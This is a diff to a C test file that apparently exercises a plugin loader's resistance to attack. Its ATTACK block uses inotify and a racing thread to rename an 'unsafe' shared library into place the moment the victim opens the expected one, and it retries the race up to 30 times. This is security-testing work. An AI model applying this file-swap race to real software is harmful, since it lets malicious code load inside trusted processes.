@@ -26,11 +26,22 @@ static void go_into_own_folder(const char *own)
     cannot("the program does not start again");
 }
 
+static volatile int armed;
+
+static void put(const char *file)
+{
+    link(file, "next");
+    SYS(SYS_rename, "next", "blur.ia2.so");
+}
+
 static void *swap(void *watch)
 {
     char event[1024];
-    if (SYS(SYS_read, (long)watch, event, sizeof event) > 0)
-        SYS(SYS_rename, "unsafe.ia2.so", "blur.ia2.so");
+    while (SYS(SYS_read, (long)watch, event, sizeof event) > 0)
+        if (armed) {
+            put("unsafe.ia2.so");
+            armed = 0;
+        }
     return NULL;
 }
 
@@ -47,8 +58,16 @@ ATTACK
     long watch = inotify_init1(0);
     if (watch < 0 || inotify_add_watch(watch, "blur.ia2.so", IN_OPEN) < 0)
         cannot("no watch");
+    link("blur.ia2.so", "good.ia2.so");
     thread(swap, (void *)watch);
-    victim_load_plugin();
-    if (!access("unsafe.ia2.so", F_OK))
-        cannot("nobody opened the file");
+    for (int i = 0; i < 30; i++) { /* ld.so may be faster */
+        armed = 1;
+        victim_load_plugin();
+        for (int waited = 0; armed; waited++)
+            if (waited > 1000)
+                cannot("nobody opened the file");
+            else
+                usleep(1000);
+        put("good.ia2.so");
+    }
 }
